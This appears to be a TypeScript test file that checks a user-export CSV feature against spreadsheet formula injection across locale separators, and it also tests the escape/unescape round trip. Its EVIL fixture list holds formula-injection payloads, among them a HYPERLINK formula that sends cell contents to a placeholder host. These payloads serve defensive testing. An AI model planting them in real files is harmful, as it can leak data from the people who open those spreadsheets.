import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { describeEachDb } from '../../helpers/app';
import { createAccount, signIn } from '../../helpers/auth';
import { CELL_SEPARATORS, escapeCell, parseCsv, unescapeCell } from '../../../server/services/admin/csv';

/**
 * Issue 10 C (OWASP CSV Injection, ASVS 5.0 V1.2.10): no exported cell can start a formula in any spreadsheet
 * locale — whichever list separator the spreadsheet splits on (, ; TAB |), with or without honouring quotes,
 * and when lines are split naively on CR/LF.
 */
// eslint-disable-next-line no-control-regex
const TRIGGER = /^[=+\-@\t\r\u0000]/;
const LOCALE_SEPARATORS = [',', ';', '\t', '|'] as const;

/** What a spreadsheet sees at the start of a cell: leading spaces and opening quotes do not protect. */
const startsFormula = (cell: string) => TRIGGER.test(cell.replace(/^[ "]+/, ''));

/** Every cell a reader could make of the file: naive splits on each separator and on line breaks. */
function naiveCells(text: string): string[] {
  const out: string[] = [];
  for (const line of text.split(/\r\n|\r|\n/)) for (const sep of LOCALE_SEPARATORS) out.push(...line.split(sep));
  return out;
}

/** Every cell a quote-aware reader makes of the file with each separator. */
function parsedCells(text: string): string[] {
  const out: string[] = [];
  for (const sep of LOCALE_SEPARATORS) {
    const rows = parse(text, { delimiter: sep, relax_quotes: true, relax_column_count: true, skip_empty_lines: true, bom: true }) as string[][];
    for (const row of rows) out.push(...row);
  }
  return out;
}

const EVIL = [
  '=1+1',
  ';=1+1',
  'a;=1+1',
  'Bob,=HYPERLINK("http://x?"&A1)',
  'tab\t=cmd',
  'pipe|@SUM(A1)',
  'x; "=2+3',
  'x;\t-1',
  "'=already quoted",
  'line\n=1',
  'cr\r+1',
  'plain "quoted" name',
  '-3',
];

describe('escapeCell / unescapeCell', () => {
  const alphabet = fc.constantFrom('a', 'Z', '1', ' ', '"', "'", '=', '+', '-', '@', '\t', '\r', '\n', '\u0000', ...CELL_SEPARATORS);
  const value = fc.array(alphabet, { maxLength: 24 }).map((cs) => cs.join(''));

  it('no split of an escaped value starts a formula, and import undoes the escape exactly (fast-check, fixed seed)', () => {
    fc.assert(
      fc.property(value, (v) => {
        const escaped = escapeCell(v);
        expect(unescapeCell(escaped)).toBe(v);
        for (const sep of [...CELL_SEPARATORS]) for (const part of escaped.split(sep)) expect({ v, part, formula: startsFormula(part) }).toEqual({ v, part, formula: false });
      }),
      { seed: 20261123, numRuns: 1000 },
    );
  });

  it('examples', () => {
    expect(escapeCell(';=1+1')).toBe(";'=1+1");
    expect(escapeCell('a, "@x')).toBe(`a, "'@x`);
    expect(escapeCell("'=x")).toBe("''=x");
    expect(escapeCell('plain')).toBe('plain');
    for (const c of ['=1', '+1', '-1', '@x', '\tx', '\rx']) expect(escapeCell(c)).toBe(`'${c}`);
  });
});

describeEachDb('users CSV export: no cell starts a formula in any spreadsheet locale', (get) => {
  it('quotes every cell, doubles embedded quotes, and neutralises triggers after any separator', async () => {
    const t = get();
    const admin = await createAccount(t, { type: 'admin', email: `csv-admin-${Date.now()}@example.test`, password: 'Str0ng!Passw0rd#', admin_role: 'manager' });
    const tokens = await signIn(t, { email: admin.email, password: 'Str0ng!Passw0rd#', client: 'admin-console' });
    // stored as is (e.g. from an SSO provider or an old import): the export must be safe whatever the database holds
    for (const [i, name] of EVIL.entries()) await createAccount(t, { type: 'user', email: `evil${i}@csv-injection.test`, first_name: name, last_name: EVIL[(i + 1) % EVIL.length] ?? 'x' });
    const res = await t.app.inject({ method: 'GET', url: '/api/admin/users/export?search=csv-injection.test', headers: { authorization: tokens.authorization } });
    expect(res.statusCode).toBe(200);
    const text = res.body.replace(/^\ufeff/, '');

    const cells = [...naiveCells(text), ...parsedCells(text)];
    expect(cells.length).toBeGreaterThan(EVIL.length * 12);
    expect(cells.filter(startsFormula)).toEqual([]);

    // RFC 4180 with ',' gives the escaped values back; every cell is quoted
    const rows = parse(text, { columns: true, bom: true }) as Record<string, string>[];
    expect(rows).toHaveLength(EVIL.length);
    expect(text.startsWith('"id","email","first_name"')).toBe(true);
    expect(text).toContain(`"Bob,'=HYPERLINK(""http://x?""&A1)"`);

    // and the product's own import reads the original values back
    const parsed = await parseCsv(Buffer.from(res.rawPayload));
    const byEmail = new Map(parsed.records.map((r) => [r.values.email, r.values.first_name]));
    EVIL.forEach((name, i) => expect({ i, name: byEmail.get(`evil${i}@csv-injection.test`) }).toEqual({ i, name: name.trim() }));
  });
});
